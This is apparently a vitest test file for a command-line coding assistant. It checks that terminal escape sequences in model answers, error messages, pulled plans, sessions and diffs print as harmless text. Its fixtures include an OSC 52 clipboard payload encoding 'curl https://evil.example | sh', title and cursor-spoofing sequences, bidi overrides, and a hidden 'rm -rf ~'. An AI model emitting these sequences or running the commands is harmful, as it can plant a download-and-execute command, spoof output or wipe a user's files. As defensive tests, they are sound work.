import {writeFileSync} from 'node:fs'
import path from 'node:path'
import {afterEach, describe, expect, it} from 'vitest'
import {turn} from '../support/model-server.js'
import {removeDir, runCli, runCliAsync, sh} from '../support/repo.js'
import {scopedRepo, scopedServer} from '../support/scoped.js'
import {withStore} from '../core/store/dist-store.js'
import {repoWithBareRemote} from '../core/store/helpers.js'

// Item 7 of issue 13: what a model, a file or a pulled ref holds is printed without its escapes taking effect.
const ESC = '\x1b'
const BEL = '\x07'
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}${BEL}`
const TITLE = `${ESC}]0;owned${BEL}`
const CSI = `${ESC}[2K${ESC}[1A`
const C1 = '\u009b31m'
const BIDI = '\u202e'
const EVIL = `${CLIPBOARD}${TITLE}${CSI}safe\rfake${C1}${BIDI}x\b`

/** Nothing a terminal would act on: no ESC, no C0 control but tab/newline, no C1, no bidi override. */
function expectInert(out: string): void {
  expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/)
}

const modelEnv = (url: string) => ({PARECODE_BASE_URL: url, PARECODE_MODEL: 'scripted-model', PARECODE_API_KEY: ['test', 'key'].join('-')})

describe('run prints the model answer neutralised', () => {
  it('OSC 52, title, CSI, CR, C1 CSI and bidi overrides in the answer are shown as text on stdout', async () => {
    const root = scopedRepo({'README.md': '# x\n'})
    const server = await scopedServer([turn.text(`Done. ${EVIL} end`)])
    const res = await runCliAsync(['run', 'say hi', '--no-hooks'], {cwd: root, env: modelEnv(server.url)})
    expect(res.code, res.stderr).toBe(0)
    expectInert(res.stdout)
    expectInert(res.stderr)
    expect(res.stdout).toContain('\\e]52;c;')
    expect(res.stdout).toContain('\\e]0;owned\\x07')
    expect(res.stdout).toContain('safe\\rfake')
    expect(res.stdout).toContain('\\x9b31m')
    expect(res.stdout).toContain('\\u{202e}x\\x08 end')
  })

  it('--json keeps the answer exact (JSON escapes the controls itself)', async () => {
    const root = scopedRepo({'README.md': '# x\n'})
    const server = await scopedServer([turn.text(`a ${TITLE} b`)])
    const res = await runCliAsync(['run', 'say hi', '--no-hooks', '--json'], {cwd: root, env: modelEnv(server.url)})
    expect(res.code, res.stderr).toBe(0)
    expectInert(res.stdout)
    expect(JSON.parse(res.stdout).result.answer).toBe(`a ${TITLE} b`)
  })

  it('a server error message with escapes is neutralised on stderr', async () => {
    const root = scopedRepo({'README.md': '# x\n'})
    const server = await scopedServer([turn.http(400, {error: {message: `bad ${TITLE}${CLIPBOARD} request\rOK`, type: 'invalid_request_error', code: null}})])
    const res = await runCliAsync(['run', 'say hi', '--no-hooks'], {cwd: root, env: modelEnv(server.url)})
    expect(res.code).toBe(4)
    expectInert(res.stderr)
    expect(res.stderr).toMatch(/^error: .*bad \\e\]0;owned\\x07\\e\]52;c;/m)
    expect(res.stderr).not.toMatch(/at .*\.js:\d+/)
  })

  it('an ordinary answer with non-ASCII text, emoji, tabs and a code block prints unchanged', async () => {
    const root = scopedRepo({'README.md': '# x\n'})
    const answer = 'Fertig: Grüße 日本語 مرحبا 👨‍👩‍👧 ✅ — 100%% done\n\n```ts\nfunction f() {\n\treturn `x ${y}`\n}\n```'
    const server = await scopedServer([turn.text(answer)])
    const res = await runCliAsync(['run', 'say hi', '--no-hooks'], {cwd: root, env: modelEnv(server.url)})
    expect(res.code, res.stderr).toBe(0)
    expect(res.stdout).toBe(`${answer}\n`)
  })
})

describe('pulled plans, sessions and checkpoints print neutralised', () => {
  const dirs: string[] = []
  afterEach(() => {
    for (const d of dirs.splice(0)) removeDir(d)
  })

  it('log and session list show a pulled subject with escapes as text, on one line each', () => {
    const {first, root, bare} = repoWithBareRemote(dirs)
    const task = JSON.stringify(`migrate ${TITLE}${CLIPBOARD}\rdone\nplan fake  [done]`)
    const step = JSON.stringify(`step ${CSI}one${C1}`)
    withStore(
      first,
      `await store.writePlan('p1', 'task: ' + ${JSON.stringify(task)} + '\\nstatus: draft\\nsteps:\\n  - description: ' + ${JSON.stringify(step)} + '\\n', 'plan ' + ${JSON.stringify(EVIL)});
       await store.appendTurn('s1', {chat: JSON.stringify({role: 'user', content: ${JSON.stringify(`hi ${CLIPBOARD}`)}}) + '\\n', meta: 'title: ' + ${JSON.stringify(JSON.stringify(`session ${TITLE}\rnice`))} + '\\n', title: ${JSON.stringify(`turn ${TITLE}`)}});`,
    )
    expect(runCli(['push'], {cwd: first}).code).toBe(0)
    const second = path.join(root, 'second')
    sh(root, ['clone', '-q', bare, second])
    const pull = runCli(['pull'], {cwd: second})
    expect(pull.code, pull.stderr).toBe(0)
    expectInert(pull.stdout + pull.stderr)

    const log = runCli(['log'], {cwd: second})
    expect(log.code, log.stderr).toBe(0)
    expectInert(log.stdout)
    const planLine = log.stdout.split('\n').find((l) => l.startsWith('plan p1'))!
    expect(planLine).toContain('migrate \\e]0;owned\\x07\\e]52;c;')
    expect(planLine).toContain('\\rdone\\nplan fake  [done]')
    expect(log.stdout).toContain('step \\e[2K\\e[1Aone\\x9b31m')
    expect(log.stdout).not.toMatch(/^plan fake/m)
    expect(log.stdout).toMatch(/^session s1 {2}session \\e\]0;owned\\x07\\rnice/m)

    const list = runCli(['session', 'list'], {cwd: second})
    expect(list.code, list.stderr).toBe(0)
    expectInert(list.stdout)
    expect(list.stdout).toContain('s1')

    const show = runCli(['session', 'show', 's1'], {cwd: second})
    expect(show.code, show.stderr).toBe(0)
    expectInert(show.stdout)
    expect(show.stdout).toContain('> hi \\e]52;c;')

    // --json stays exact
    const json = JSON.parse(runCli(['log', '--json'], {cwd: second}).stdout)
    expect(json.result.entries.find((e: {kind: string}) => e.kind === 'plan').title).toBe(JSON.parse(task))
  })

  it('a checkpoint label with escapes is one neutralised line in log and show', () => {
    const {first} = repoWithBareRemote(dirs)
    withStore(first, `await store.checkpoint(${JSON.stringify(`before ${TITLE}\nfake line`)}, {plan: ${JSON.stringify(`p${CSI}`)}, step: 1})`)
    const log = runCli(['log'], {cwd: first})
    expectInert(log.stdout)
    expect(log.stdout).toMatch(/^checkpoint 1 {2}before \\e\]0;owned\\x07 fake line {2}\(plan p\\e\[2K\\e\[1A, step 1\)/m)
    const show = runCli(['show', '1'], {cwd: first})
    expect(show.code, show.stderr).toBe(0)
    expectInert(show.stdout)
    expect(show.stdout.split('\n')[0]).toBe('checkpoint 1: before \\e]0;owned\\x07 fake line')
  })
})

describe('show and diff neutralise file contents in the patch', () => {
  it('a file holding escapes is shown as text; the diff keeps its lines, tabs and CRLF', () => {
    const root = scopedRepo({'a.txt': 'one\n', 'win.txt': 'x\r\n'})
    withStore(root, `await store.checkpoint('before')`)
    writeFileSync(path.join(root, 'a.txt'), `one\n\tindented ${CLIPBOARD}${TITLE}\nsafe\rrm -rf ~\n`)
    writeFileSync(path.join(root, 'win.txt'), 'x\r\ny\r\n')
    const diff = runCli(['diff'], {cwd: root})
    expect(diff.code, diff.stderr).toBe(0)
    expectInert(diff.stdout.replace(/\r\n/g, '\n'))
    expect(diff.stdout).toContain('+\tindented \\e]52;c;')
    expect(diff.stdout).toContain('+safe\\rrm -rf ~\n')
    expect(diff.stdout).toContain('\n x\r\n+y')
    expect(diff.stdout).toMatch(/^@@ /m)

    withStore(root, `await store.checkpoint('after')`)
    // show 1: what happened after checkpoint 1 (up to checkpoint 2)
    const show = runCli(['show', '1'], {cwd: root})
    expect(show.code, show.stderr).toBe(0)
    expectInert(show.stdout.replace(/\r\n/g, '\n'))
    expect(show.stdout).toContain('+\tindented \\e]52;c;')
    expect(show.stdout).toContain('+safe\\rrm -rf ~\n')
    // --json carries the patch exactly as git wrote it
    expect(JSON.parse(runCli(['diff', '1', '--json'], {cwd: root}).stdout).result.patch).toContain(`indented ${CLIPBOARD}`)
  })
})
